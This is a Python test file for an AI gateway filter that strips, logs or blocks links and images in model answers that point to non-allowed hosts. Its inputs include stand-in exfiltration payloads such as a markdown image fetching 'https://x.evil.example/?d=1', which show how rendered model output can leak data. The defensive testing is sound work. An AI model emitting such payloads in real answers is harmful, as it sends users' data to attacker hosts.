"""Response filter: a rendered answer reaches only allowed hosts; harmless texts are unchanged."""

from __future__ import annotations

import os
import random
import re
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import islice

import httpx2
import openai
import pytest

from clients import claude, open_ai, user
from exfiltration import GOOD, harmful, harmless
from gateway import Served
from renderers import elsewhere, leads, rendered
from test_audit import inside, query
from test_serve import serve
from waiting import wait_until

SEED, TEXTS = 5, 10_000 if os.environ.get("TOKEN_SHIELD_FULL") else 1_000
MARK = "⟨link removed⟩"
CONFIG = f"""
[egress]
media = ["{GOOD}"]
links = ["{GOOD}"]
[class.default]
rpm = 10000000
burst = 1000000
in_flight = 64
output_tokens = 1000000
[class.blocked]
answers = {{ fetched = "block", clicked = "report" }}
[[upstream]]
name = "echo"
url = "echo:"
[[model]]
name = "echo"
route = ["echo"]
"""


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serve(tmp_path_factory.mktemp("answers"), CONFIG) as served:
        yield served


def through(gateway: Served, texts: list[str]) -> list[str]:
    """The texts as an agent receives them from a model that returns them."""
    token = gateway.issue("answers/all", models=("echo",))

    def some(mine: list[str]) -> list[str]:
        with httpx2.Client(
            trust_env=False, timeout=60, headers={"authorization": f"Bearer {token}"}
        ) as client:
            answers = (
                client.post(
                    f"{gateway.url}/v1/chat/completions",
                    json={"model": "echo", "messages": user(text)},
                )
                for text in mine
            )
            return [
                answer.raise_for_status().json()["choices"][0]["message"]["content"]
                for answer in answers
            ]

    with ThreadPoolExecutor(8) as pool:
        parts = list(pool.map(some, [texts[at::8] for at in range(8)]))
    return [parts[at % 8][at // 8] for at in range(len(texts))]


def generated(kind: Callable[[random.Random], str]) -> list[str]:
    chance = random.Random(SEED)
    return list(islice(iter(lambda: kind(chance), None), TEXTS))


def test_nothing_that_is_rendered_leads_elsewhere(gateway: Served) -> None:
    texts = generated(harmful)
    said = dict(zip(through(gateway, texts), texts, strict=True))
    wrong = []
    for text, html in rendered(list(said)):
        wrong += [
            f"{said[text]!r}\nbecame {text!r}\nrendered {html!r}\nleads to {url}"
            for lead in leads(html)
            if (url := elsewhere(lead, f"https://{GOOD}"))
        ]
    assert not wrong, f"{len(wrong)} of {len(texts)}:\n\n" + "\n\n".join(
        re.sub("A{20,}", "A…", one)[:2000] for one in wrong[:8]
    )


def test_the_renderers_would_show_it() -> None:
    """Without the gateway, nearly every text leads to another host."""
    texts = generated(harmful)[:500]
    led = {
        text
        for text, html in rendered(texts)
        if any(elsewhere(lead, f"https://{GOOD}") for lead in leads(html))
    }
    assert len(led) > len(texts) / 2, len(led)


def test_records_headers_metrics_and_the_log_say_it(gateway: Served) -> None:
    token = gateway.issue("answers/told", models=("echo",))
    headers = {"authorization": f"Bearer {token}"}
    body = {
        "model": "echo",
        "messages": user(
            "![a](https://x.evil.example/?d=1) [b](https://evil.example) https://good.example"
        ),
    }
    answer = httpx2.post(f"{gateway.url}/v1/chat/completions", json=body, headers=headers)
    said = answer.json()["choices"][0]["message"]["content"]
    assert said == f"![a](https{MARK}) [b](https{MARK}) https://good.example"
    assert answer.headers["token-shield-removed"] == "2"
    rows = query(gateway, "--request", answer.headers["token-shield-request"])
    [outcome] = [inside(row) for row in rows if row["kind"] == "outcome"]
    assert (
        outcome["outbound"]
        == [
            {
                "kind": "fetched",
                "reason": "not-listed",
                "target": "https://x.evil.example/",
                "verdict": "strip",
            },
            {
                "kind": "clicked",
                "reason": "not-listed",
                "target": "https://evil.example/",
                "verdict": "strip",
            },
        ]
        and outcome["outbound_count"] == 2
    )
    assert (
        gateway.metric(
            "token_shield_egress_total", filter="answer", verdict="strip", reason="not-listed"
        )
        >= 2
    )
    request = answer.headers["token-shield-request"]
    line = wait_until(
        lambda: gateway.line("uncontrolled destination", request=request),
        10,
        "what was found is said in the log",
    )
    assert (line["level"], line["filter"], line["host"], line["count"]) == (
        "WARN",
        "answer",
        "x.evil.example",
        2,
    )


def test_a_class_may_refuse_such_answers_or_let_them_pass(gateway: Served) -> None:
    token = gateway.issue("answers/blocked", "--class", "blocked", models=("echo",))
    client = open_ai(gateway, token)
    link = "see [b](https://evil.example) there"
    assert (
        client.chat.completions.create(model="echo", messages=user(link)).choices[0].message.content
        == link
    )
    with pytest.raises(openai.PermissionDeniedError) as refused:
        client.chat.completions.create(model="echo", messages=user("![b](https://evil.example)"))
    assert refused.value.code == "answer-uncontrolled" and "evil" not in str(refused.value)
    with pytest.raises(openai.APIError):
        list(
            client.chat.completions.create(
                model="echo", messages=user("a ![b](https://evil.example) c"), stream=True
            )
        )


def test_streams_of_both_sdks_end_as_they_should(gateway: Served) -> None:
    token = gateway.issue("answers/streams", models=("echo",))
    for text, expect in [
        ("see https://evil.example/x now", f"see https{MARK} now"),
        ("a file: https://good.example", "a file: https://good.example"),
        ("it is about https:", "it is about https:"),
        ("nothing at all", "nothing at all"),
    ]:
        with open_ai(gateway, token).chat.completions.stream(
            model="echo",
            messages=user(text),
            stream_options={"include_usage": True},
        ) as stream:
            final = stream.get_final_completion()
        assert (
            final.choices[0].message.content == expect
            and final.choices[0].finish_reason == "stop"
            and final.usage
        )
        with claude(gateway, token).messages.stream(
            model="echo", max_tokens=99, messages=user(text)
        ) as events:
            message = events.get_final_message()
        assert (
            "".join(block.text for block in message.content) == expect
            and message.stop_reason == "end_turn"
        ), text


def test_what_leads_nowhere_comes_out_byte_for_byte(gateway: Served) -> None:
    texts = generated(harmless)
    changed = [
        (text, said)
        for text, said in zip(texts, through(gateway, texts), strict=True)
        if said != text
    ]
    assert not changed, f"{len(changed)} of {len(texts)}: {changed[:3]}"
